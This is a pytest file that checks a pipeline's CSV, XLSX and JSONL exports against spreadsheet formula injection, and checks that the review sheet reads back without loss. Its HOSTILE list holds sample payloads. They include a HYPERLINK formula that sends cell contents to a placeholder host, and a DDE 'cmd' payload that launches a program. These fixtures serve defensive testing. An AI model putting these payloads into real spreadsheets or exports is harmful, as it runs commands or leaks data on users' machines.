"""Exports opened in a spreadsheet run nothing (OWASP CSV injection), and the review round trip is lossless."""
from __future__ import annotations

import csv
import json

import duckdb
import openpyxl
import pytest
from typer.testing import CliRunner

from pipeline.cli import app
from pipeline.coding.review_sheet import read_sheet, suggestions_frame
from pipeline.export import export
from pipeline.formula_safe import FORMULA_TRIGGERS, protect, unprotect

runner = CliRunner()
# What a member could type at the start of a paragraph, each a formula to a spreadsheet.
HOSTILE = ['=HYPERLINK("http://example.invalid/?x="&A1,"open")', "+1+2", "-3+cmd|' /C calc'!A0",
           "@SUM(A1:A9)", "\t=1+1", "\r=2+2"]


def test_protect_prefixes_exactly_the_formula_triggers_and_unprotect_reverses_it():
    for trigger in FORMULA_TRIGGERS:
        assert protect(trigger + "x") == "'" + trigger + "x"
    assert protect("plain") == "plain" and protect("'quoted") == "'quoted" and protect("") == ""
    assert protect(3.5) == 3.5 and protect(None) is None
    # A value that already starts with ' before a trigger gets one more, so that unprotect is exact.
    for value in HOSTILE + ["'=already", "''+twice", "'plain", "plain", "", "a=b", None, 7]:
        assert unprotect(protect(value)) == value


@pytest.fixture
def hostile_db(small_db) -> str:
    """The small database with every paragraph rewritten to start like a formula."""
    con = duckdb.connect(small_db)
    ids = [r[0] for r in con.execute("SELECT segment_id FROM segments ORDER BY segment_id").fetchall()]
    for index, segment_id in enumerate(ids):
        con.execute("UPDATE segments SET text = ? WHERE segment_id = ?", [HOSTILE[index % len(HOSTILE)], segment_id])
    con.close()
    return small_db


def _stored_texts(db: str) -> set[str]:
    with duckdb.connect(db, read_only=True) as con:
        return {r[0] for r in con.execute("SELECT text FROM segments").fetchall()}


def test_csv_export_prefixes_formula_cells_and_jsonl_stays_exact(hostile_db, tmp_path):
    out = tmp_path / "segments.csv"
    result = runner.invoke(app, ["export", "--db", hostile_db, "--format", "csv", "--out", str(out)])
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(out.open(encoding="utf-8", newline="")))
    assert rows and all(row["text"].startswith("'") for row in rows)
    assert {unprotect(row["text"]) for row in rows} == _stored_texts(hostile_db)
    assert all(not row["member_code"].startswith("'") for row in rows)  # only cells that need it
    jsonl = tmp_path / "export.jsonl"
    export(hostile_db, "jsonl", jsonl)
    texts = {s["text"] for line in jsonl.read_text(encoding="utf-8").splitlines()
             for s in json.loads(line)["segments"]}
    assert texts == _stored_texts(hostile_db)  # JSONL is the data contract: exact, never prefixed


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_review_sheet_is_formula_safe_and_reads_back_exactly(hostile_db, tmp_path, suffix):
    sheet = tmp_path / f"review{suffix}"
    result = runner.invoke(app, ["review", "export", "--db", hostile_db, "--out", str(sheet)])
    assert result.exit_code == 0, result.output
    expected = suggestions_frame(hostile_db)
    assert len(expected) > 0
    if suffix == ".csv":
        raw = [row["text"] for row in csv.DictReader(sheet.open(encoding="utf-8", newline=""))]
    else:
        cells = [cell for row in openpyxl.load_workbook(sheet)["review"].iter_rows(min_row=2) for cell in row]
        assert all(cell.data_type != "f" for cell in cells), "an XLSX cell was written as a formula"
        header = [c.value for c in next(openpyxl.load_workbook(sheet)["review"].iter_rows(max_row=1))]
        column = header.index("text")
        raw = [row[column].value for row in openpyxl.load_workbook(sheet)["review"].iter_rows(min_row=2)]
    assert raw and all(value.startswith("'") for value in raw)
    assert read_sheet(sheet)["text"].tolist() == expected["text"].tolist()  # the prefix comes off again


def test_review_import_of_a_protected_xlsx_records_the_decisions(hostile_db, tmp_path):
    sheet = tmp_path / "review.xlsx"
    assert runner.invoke(app, ["review", "export", "--db", hostile_db, "--out", str(sheet)]).exit_code == 0
    book = openpyxl.load_workbook(sheet)
    rows = book["review"]
    header = [c.value for c in rows[1]]
    rows.cell(row=2, column=header.index("decision") + 1, value="reject")
    book.save(sheet)
    result = runner.invoke(app, ["review", "import", str(sheet), "--db", hostile_db])
    assert result.exit_code == 0, result.output
    with duckdb.connect(hostile_db, read_only=True) as con:
        assert con.execute("SELECT count(*) FROM codings WHERE method = 'human' AND status = 'rejected'"
                           ).fetchone()[0] == 1
